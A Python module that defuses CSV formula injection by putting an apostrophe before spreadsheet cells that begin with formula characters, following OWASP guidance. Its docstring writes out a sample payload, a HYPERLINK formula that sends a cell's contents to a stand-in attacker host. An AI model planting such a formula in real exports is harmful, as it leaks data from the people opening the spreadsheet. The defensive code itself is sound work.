"""Cells of the CSV files people open in a spreadsheet (the request's inventory, `plan --format
csv`, the list of what a closure changed, the audit trail), made inert: a cell that starts with
=, +, -, @, a tab or a carriage return is read by Excel, LibreOffice and Google Sheets as a
formula, so a tenant user who names an app `=HYPERLINK("https://evil.example/?x="&B2,"Open")`
would get a live link (or worse) in an admin's spreadsheet. Such a cell gets a leading `'`, as
OWASP's CSV injection guidance says (owasp.org/www-community/attacks/CSV_Injection); the csv
module then quotes what needs it. Pure."""

from __future__ import annotations

from collections.abc import Iterable, Mapping

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> str:
    """`value` as a cell no spreadsheet runs: '' for None, a leading `'` before a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def csv_row(values: Iterable[object]) -> list[str]:
    """Every cell of a row through `csv_cell`."""
    return [csv_cell(v) for v in values]


def csv_dict(row: Mapping[str, object]) -> dict[str, str]:
    """Every value of a dict row (csv.DictWriter's) through `csv_cell`."""
    return {k: csv_cell(v) for k, v in row.items()}
